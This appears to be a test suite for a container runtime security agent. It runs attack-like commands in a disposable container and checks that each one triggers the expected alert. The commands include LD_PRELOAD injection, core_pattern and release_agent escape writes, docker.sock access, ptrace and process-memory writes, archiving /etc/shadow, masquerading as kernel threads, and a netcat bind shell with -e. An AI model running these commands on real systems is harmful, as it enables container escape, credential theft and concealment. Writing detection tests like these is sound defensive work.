    (42, PLACE, "LD_PRELOAD", lambda d: d.sh("LD_PRELOAD=/tmp/none.so /bin/true"), ()),
    (42, PLACE, "twin: LD_LIBRARY_PATH", lambda d: d.sh("LD_LIBRARY_PATH=/tmp/l /bin/true"), ()),
    (42, PLACE, "twin: by the loader", lambda d: d.sh("/lib64/ld-linux-x86-64.so.2 --preload /tmp/none.so /bin/true"), ()),
    (42, "Place of libraries added", "a place of libraries", lambda d: d.sh("echo /opt/l > /etc/ld.so.conf.d/x.conf"), ()),
    (42, None, "miss: libraries elsewhere; what unpacks itself", lambda d: d.sh("LD_LIBRARY_PATH=/opt/lib /bin/true; LD_LIBRARY_PATH=/tmp/_MEIx /bin/true"), ()),
    (42, None, "miss: a library of the image is preloaded", lambda d: d.sh("LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.1 /bin/true"), ()),
    (43, NAMESPACE, "unshare", lambda d: d.sh("unshare -Ur true"), ()),
    (43, NAMESPACE, "twin: clone3", lambda d: d.py("r = call('clone3', struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)\n"
                                                   "if r == 0: os._exit(0)"), ()),
    (43, NAMESPACE, "twin: setns", lambda d: d.py("call('setns', os.open('/proc/1/ns/uts', 0), 0)"), ()),
    (43, None, "miss: a child", lambda d: d.sh("(true); true & wait"), ()),
    (44, ESCAPE, "core_pattern", lambda d: d.sh("echo x > /proc/sys/kernel/" + "core_pattern"), ()),
    (44, ESCAPE, "twin: sysrq, by a relative path", lambda d: d.sh("cd /proc; : > ./sysrq-trigger"), ()),
    (44, ESCAPE, "twin: release_agent", lambda d: d.sh("mkdir -p /opt/cg; echo > /opt/cg/release_agent"), ()),
    (44, None, "miss: it is read", lambda d: d.sh("cat /proc/sys/kernel/core_pattern"), ()),
    (45, MOUNT, "mount", lambda d: d.sh("mount -t tmpfs none /mnt"), ()),
    (45, MOUNT, "twin: fsopen", lambda d: d.py("call('fsopen', 'tmpfs', 0)"), ()),
    (45, MOUNT, "twin: open_tree and move_mount", lambda d: d.py("call('move_mount', call('open_tree', AT_FDCWD, '/mnt', 1), '', AT_FDCWD, '/mnt', 4)"), ()),
    (45, None, "miss: mounts are listed", lambda d: d.sh("cat /proc/mounts >/dev/null"), ()),
    (46, SOCKET, "docker.sock", lambda d: d.py("try_unix('/data/docker.sock')"), ()),
    (46, SOCKET, "twin: by a link with another name", lambda d: d.py("os.symlink('/data/docker.sock', '/opt/s.s')\ntry_unix('/opt/s.s')"), ()),
    (46, SOCKET, "twin: by a relative path", lambda d: d.sh("cd /data; python3 -c \"import socket; socket.socket(socket.AF_UNIX).connect_ex('docker.sock')\""), ()),
    (46, None, "miss: another socket", lambda d: d.py("try_unix('/run/mysqld.sock')"), ()),
    (46, DISK, "the memory of the kernel", lambda d: d.sh("head -c 1 /proc/kcore"), ()),
    (46, DISK, "twin: by another way", lambda d: d.sh("cd /sys/..; head -c 1 proc/./kcore"), ()),
    (46, DISK, "twin: a disk is given a name, as nobody names them", lambda d: d.sh("mknod /opt/x b 253 0; mknod /dev/vda b 253 0"), ()),
    (46, DISK, "twin: it is opened, which is refused", lambda d: d.sh("head -c 1 /dev/vda"), ()),
    (46, DISK, "twin: one that the container may open", lambda d: d.sh("head -c 1 /dev/shown"), ()),
    (46, None, "miss: other devices", lambda d: d.sh("mknod /opt/null c 1 3; head -c 1 /dev/zero; head -c 1 /dev/none"), ()),
    (47, ATTACHED, "ptrace", lambda d: d.py("import subprocess\np = subprocess.Popen(['/bin/sleep', '9'])\ncall('ptrace', 16, p.pid, 0, 0)\nos.kill(p.pid, 9)"), ()),
    (47, ATTACHED, "twin: seize", lambda d: d.py("call('ptrace', 0x4206, 1, 0, 0)"), ()),
    (47, ATTACHED, "twin: process_vm_writev", lambda d: d.py("call('process_vm_writev', 1, 0, 0, 0, 0, 0)"), ()),
    (47, MEMORY_WRITTEN, "twin: /proc/PID/mem",
     lambda d: d.py(WRITE_MEMORY), ()),
    (47, MEMORY_WRITTEN + " with the right to do so", "with the capability for it",
     lambda d: d.py(WRITE_MEMORY, caps=("CAP_SYS_PTRACE",)), ()),
    (47, None, "miss: its own memory; itself traced", lambda d: d.py("os.open('/proc/self/mem', os.O_RDWR)\ncall('ptrace', 0, 0, 0, 0)"), ()),
    (48, KERNEL, "a BPF program", lambda d: d.py("call('bpf', 5, 0, 0)"), ()),
    (48, KERNEL, "twin: a module", lambda d: d.py("call('init_module', '', 0, '')"), ()),
    (48, "Call that exploits use, by hand", "perf, userfaultfd", lambda d: d.py("call('perf_event_open', 0, 0, -1, -1, 0)\ncall('userfaultfd', 0)"), ()),
    (48, None, "miss: a map", lambda d: d.py("call('bpf', 0, 0, 0)"), ()),
    (49, RING, "io_uring is set up", lambda d: d.py("b = ctypes.create_string_buffer(120)\nlibc.syscall(425, 4, b)"), ()),
    (50, OWN, "a program removes itself", lambda d: d.sh("cp /usr/bin/python3.11 /opt/gone; /opt/gone -c \"import os; os.unlink('/opt/gone')\""), (DROPPED,)),
    (50, THREAD, "a title of the kernel's", lambda d: d.sh("exec -a '[kworker/0:1]' /bin/true"), ()),
    (50, THREAD, "twin: the name of one is taken by prctl, while it runs", lambda d: d.py("libc.prctl(15, b'kworker/u8:2', 0, 0, 0)"), ()),
    (50, THREAD, "twin: by /proc, of another thread", lambda d: d.py(
        "import threading\nend = threading.Event()\nt = threading.Thread(target=end.wait)\nt.start()\n"
        "write('/proc/self/task/%d/comm' % t.native_id, '[kthreadd]', os.O_WRONLY)\nend.set()"), ()),
    (50, THREAD, "twin: by a shell, of itself", lambda d: d.sh("echo ksoftirqd/0 > /proc/$$/comm"), ()),
    (50, THREAD, "twin: the program's file is called so", lambda d: d.sh("ln -s /bin/true /opt/kdevtmpfs; /opt/kdevtmpfs; true"), ()),
    (50, None, "miss: names of threads", lambda d: d.py("for name in (b'worker-1', b'kafka-producer', b'rcu', b'GC Thread#0'): libc.prctl(15, name, 0, 0, 0)"), ()),
    (50, None, "miss: a login shell's title", lambda d: d.sh("exec -a -bash /bin/true"), ()),
    (50, POSED, "the title of a server", lambda d: d.sh("exec -a nginx /bin/sleep 0"), ()),
    (50, POSED, "twin: with what it would say of itself", lambda d: d.sh("exec -a 'nginx: worker process' /bin/sleep 0"), ()),
    (50, POSED, "twin: taken by prctl", lambda d: d.py("libc.prctl(15, b'sshd', 0, 0, 0)"), ()),
    (50, POSED, "twin: by /proc, by a shell", lambda d: d.sh("echo -n crond > /proc/$$/comm"), ()),
    (50, None, "miss: a name like theirs", lambda d: d.sh("exec -a nginx-exporter /bin/true"), ()),
    (50, None, "miss: busybox is what it is called", lambda d: d.sh("exec -a /usr/sbin/crond busybox --help >/dev/null"), ()),
    (51, HIDDEN, "a directory of three dots", lambda d: d.sh("mkdir -p /tmp/..."), ()),
    (51, HIDDEN, "twin: a dot and a blank", lambda d: d.py("write('/tmp/. ', 'x')"), ()),
    (51, None, "miss: a file with a dot", lambda d: d.sh("mkdir /tmp/.cache; touch /tmp/.cache/..x"), ()),
    (52, "32-bit call of a 64-bit program", "a 32-bit call", lambda d: d.run("/usr/bin/actor", "do", "open32", "/etc/hostname"), ()),
    (52, "32-bit call of a 64-bit program", "twin: one that fails", lambda d: d.run("/usr/bin/actor", "do", "unlink32", "/tmp/nothing"), ()),
    (52, "32-bit call", "of a 32-bit program", lambda d: d.run("/usr/bin/program32"), ()),
    (53, "Owner of a program changed", "chown of a program", lambda d: d.sh("chown 33 /usr/bin/cksum"), ()),
    (53, "Mode of a system file changed", "chmod of a program", lambda d: d.sh("chmod 777 /usr/bin/cksum"), ()),
    (53, None, "miss: chown of what is one's own", lambda d: d.sh("chown 33 /opt/docs"), ()),
    (53, KEPT, "chattr +i, which is refused", lambda d: d.sh("echo > /opt/kept; chattr +i /opt/kept"), ()),
    (53, KEPT, "twin: chattr +a, which is not", lambda d: d.sh("chattr +a /opt/kept; chattr -a /opt/kept", caps=("CAP_LINUX_IMMUTABLE",)), ()),
    (53, KEPT, "twin: ioctl from Python", lambda d: d.py("import fcntl\nfcntl.ioctl(os.open('/opt/kept', 0), 0x40086602, struct.pack('l', 0x10))"), ()),
    (53, KEPT, "twin: FS_IOC_FSSETXATTR", lambda d: d.py("import fcntl\nfcntl.ioctl(os.open('/opt/kept', 0), 0x401c5820, struct.pack('7I', 8, *[0] * 6))"), ()),
    (53, KEPT, "twin: file_setattr, where the kernel has it",
     lambda d: d.py("call('file_setattr', AT_FDCWD, '/opt/kept', struct.pack('Q4I', 8, 0, 0, 0, 0), 24, 0)"), ()),
    (53, KEPT, "twin: the number at the very end of the memory",
     lambda d: d.py("m = mmap.mmap(-1, 8192)\nm[4092:4096] = struct.pack('I', 0x10)\nat = ctypes.addressof(ctypes.c_char.from_buffer(m))\n"
                    "libc.mprotect(ctypes.c_void_p(at + 4096), 4096, 0)\nlibc.ioctl(os.open('/opt/kept', 0), ctypes.c_ulong(0x40086602), ctypes.c_void_p(at + 4092))"), ()),
    (53, UNKEPT, "a log is freed of it", lambda d: d.sh("chattr -a /var/log/dpkg.log"), ()),
    (53, UNKEPT, "twin: by a link, from Python", lambda d: d.py("import fcntl\nos.symlink('/etc/passwd', '/opt/pw')\n"
                                                               "fcntl.ioctl(os.open('/opt/pw', 0), 0x40086602, struct.pack('l', 0))"), ()),
    (53, None, "miss: attributes are listed; others are set; other requests", lambda d: d.sh("lsattr /etc/passwd /var/log/dpkg.log; chattr +d /opt/kept; stty size </dev/null"), ()),
    (20, "Time of a file set by hand", "another file gets an old time", lambda d: d.sh("touch -d 2001-01-01 /opt/n"), ()),
    (23, "Secret of the system archived", "shadow is packed", lambda d: d.sh("tar cf /tmp/x.tar /etc/shadow 2>/dev/null"), ()),
    (23, "Certificate authority added by hand", "an authority is added", lambda d: d.sh("mkdir -p /usr/local/share/ca-certificates; echo > /usr/local/share/ca-certificates/x.crt"), ()),
    (35, "Huge pages changed", "huge pages are reserved", lambda d: d.sh("echo 9 > /proc/sys/vm/nr_hugepages"), ()),
    (41, "Tunables of the loader for a setuid program", "a setuid program with tunables of the loader",
     lambda d: d.run("/usr/bin/chsh", "--help", user="1000", env=("GLIBC_TUNABLES=glibc.malloc.check=1",)), ()),
    (41, None, "miss: another program with them", lambda d: d.run("/bin/true", user="1000", env=("GLIBC_TUNABLES=glibc.malloc.check=1",)), ()),
    (44, "File opened by its handle", "a file is opened by its number on the disk", lambda d: d.py("call('open_by_handle_at', AT_FDCWD, struct.pack('=IiQ', 8, 1, 2), 0)"), ()),
    (44, "Clock or machine changed", "the name of the machine is changed", lambda d: d.py("libc.sethostname(b'x', 1)"), ()),
    (47, "Process attached to with the right to do so", "ptrace with the capability for it",
     lambda d: d.py("call('ptrace', 0x4206, 1, 0, 0)", caps=("CAP_SYS_PTRACE",)), ()),
    (49, "Calls by a ring", "io_uring is set up by a program of the image", lambda d: d.run("/usr/bin/actor", "do", "io_uring_setup"), ()),
    (49, "Operation by a ring", "a ring connects", lambda d: d.run("/usr/bin/netter", "uring", "127.0.0.1", "8123"), ()),
    (32, "Many hosts of one network", "a program of the image connects to them", lambda d: d.sh("for i in $(seq 40); do netter connect 198.51.100.$i 22; done"), ()),
    (53, "Owner of a system file changed", "chown of a file beside libraries", lambda d: d.sh("chown 33 /usr/lib/os-release"), ()),
    (9, "Code made in memory by a tool", "Python asks for memory to write to and run", lambda d: d.py("mmap.mmap(-1, 4096, prot=7)"), ()),
    (54, "Network tool runs a program", "a relay with a shell", lambda d: d.sh("timeout 1 busybox nc -l -p 4444 -e /bin/true"), ()),
    (54, "Network tool", "twin: a relay alone", lambda d: d.sh("timeout 1 busybox nc -w 1 %s 1" % NOBODY), ()),
)


def make_container(work, archive):
    container = debianlib.Container(work, "attacks")
    container.unpack(archive)
    with open(os.path.join(HERE, "../tools/deed.py")) as file:
        container.add("usr/lib/deed/deed.py", file.read())
    actor = os.path.join(work, "actor")
    built = subprocess.run(["cc", "-D_GNU_SOURCE", "-O1", "-static", "-o", actor, os.path.join(HERE, "../tools/actor.c")], capture_output=True)
    if built.returncode == 0:
        with open(actor, "rb") as file:
            container.add("usr/bin/actor", file.read(), 0o755)
        with open(actor, "rb") as file:
            container.add("usr/bin/helper", file.read(), 0o4755)
    netter = os.path.join(work, "netter")
    if containerlib.build_netter(netter) is None:
        with open(netter, "rb") as file:
            container.add("usr/bin/netter", file.read(), 0o755)
    program = os.path.join(work, "program32")
    built = subprocess.run(["cc", "-m32", "-nostdlib", "-static", "-ffreestanding", "-O1", "-o", program, os.path.join(HERE, "../tools/program32.c")], capture_output=True)
    if built.returncode == 0:
        with open(program, "rb") as file:
            container.add("usr/bin/program32", file.read(), 0o755)
    for name in ("auth", "a", "b", "c", "d", "e", "g", "k", "l", "dpkg", "old/x"):
        container.add("var/log/%s.log" % name, "one\nx\n")
    container.add("var/log/f.log", "x" * 8192)
    container.add("root/.aws/credentials", "none\n")
    container.add("root/.aws/config", "none\n")
    for name in ("token", "namespace", "..data/token"):
        path = os.path.join(container.volume, "secrets/kubernetes.io/serviceaccount", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write("none\n")
    with open(os.path.join(container.volume, "docker.sock"), "w"):
        pass
    shutil.copy("/bin/true", os.path.join(container.volume, "lain"))
    with open(os.path.join(container.volume, "lain.sh"), "w") as file:
        file.write("true\n")
    return container


# Lean mode does not see what these ask for: calls that leave no trace in a file or on the network, and ask for no right.
FULL_ONLY = {STREAM, SOCKET, "Root rights taken", "32-bit call of a 64-bit program", "32-bit call"}
FULL_ONLY_CASES = {
    "twin: of another shell, emptied",  # made and emptied in one moment
    "core_pattern", "twin: sysrq, by a relative path", "huge pages are reserved",  # refused; test-file-reads.py has those that are not
    "the memory of the kernel", "twin: by another way",  # it is not there
    "twin: it is opened, which is refused", "twin: one that the container may open",  # of devices the kernel tells calls only
    "unshare",  # a namespace of users is everybody's to make
    "twin: seize", "twin: process_vm_writev", "ptrace with the capability for it",  # a process of one's own is everybody's to look into
    "twin: a module",  # this kernel takes none, and asks for nothing
    "a log is freed of it", "twin: by a link, from Python",  # the files had no attributes: nothing was changed
}


def check(container, agent, only, is_lean):
    deeds, watch = Deeds(container), debianlib.Watch(agent, container)
    watch.told()
    for row, rule, what, act, also in CASES:
        if only and str(row) not in only:
            continue
        if is_lean and (rule in FULL_ONLY or what in FULL_ONLY_CASES):
            act(deeds)  # others build upon it
            watch.told()
            continue
        code, words = act(deeds)
        alerts = watch.told()
        name = "%s%d %s: %s" % (debianlib.MODES[is_lean] + ": " if is_lean else "", row, rule or "silent", what)
        if alerts is None:
            tap.ok(False, name, "its end was not told of in time\n" + agent.log())
            continue
        loud = {a["rule"] for a in alerts if a["priority"] not in QUIET}
        all_told = {a["rule"] for a in alerts}
        good = (rule in all_told if rule else True) and loud <= ({rule} if rule else set()) | set(also)
        tap.ok(good, name, "exit code %d: %s\ntold: %s" % (code, words[-300:], "\n".join(a["rule"] + ": " + a["output"] for a in alerts)))


def attack(work, archive, is_lean):
    container, agent = make_container(work, archive), None
    try:
        reason = container.start(disk=(7, 0))
        if reason:
            tap.skip("attacks in a container", reason)
            return
        container.run("/bin/bash", "-c", SERVER)
        agent = debianlib.start_agent(work, "attacks", is_lean, "--ring", "65536")
        tap.ok(agent.is_watching, "the agent starts with its own rules, " + debianlib.MODES[is_lean], agent.log())
        if not agent.is_watching:
            return
        check(container, agent, sys.argv[1:], is_lean)
        code = agent.end()
        tap.ok(code == 0 and "0 records malformed" in agent.log(), "it ended", "%d\n%s" % (code, agent.log()))
        agent = None
    finally:
        if agent:
            agent.end()
        container.end()
        if os.environ.get("KEEP_ALERTS"):
            shutil.copy(os.path.join(work, "attacks.jsonl"), os.environ["KEEP_ALERTS"])


def main():
    agentlib.need_sensor("runc", "mount", "cc")
    debianlib.in_each_mode(tap, attack)
    return tap.end()


if __name__ == "__main__":
    sys.exit(main())
